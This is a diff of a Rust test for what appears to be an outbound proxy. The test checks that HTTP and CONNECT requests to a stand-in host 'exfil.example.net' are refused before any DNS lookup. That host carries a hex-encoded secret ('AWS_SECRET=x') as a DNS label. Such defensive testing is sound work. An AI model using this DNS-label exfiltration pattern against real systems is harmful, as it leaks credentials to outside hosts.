@@ -489,7 +489,12 @@ fn ask_mode_refuses_when_nobody_answers() {
     // unanswered question, a CONNECT, or a hex-encoded secret as a label.
     let exfil = "4157535f5345435245543d78.exfil.example.net";
     assert_eq!(get(&s, &format!("http://{exfil}:{p}/")), 403);
-    assert_eq!(connect_status(&s, &format!("{exfil}:443")), 403);
+    let connect = format!("CONNECT {exfil}:443 HTTP/1.1\r\n\r\n");
+    assert_refused(
+        &connect_refusal(&s.proxy_addr(), connect.as_bytes()),
+        403,
+        "not-allowed",
+    );
     let asked_about = asked(&s, exfil);
     assert_eq!(asked_about["addrs"], serde_json::json!([]), "{asked_about}");
     assert_eq!(dns.queries(), 0, "no name was resolved before an answer");
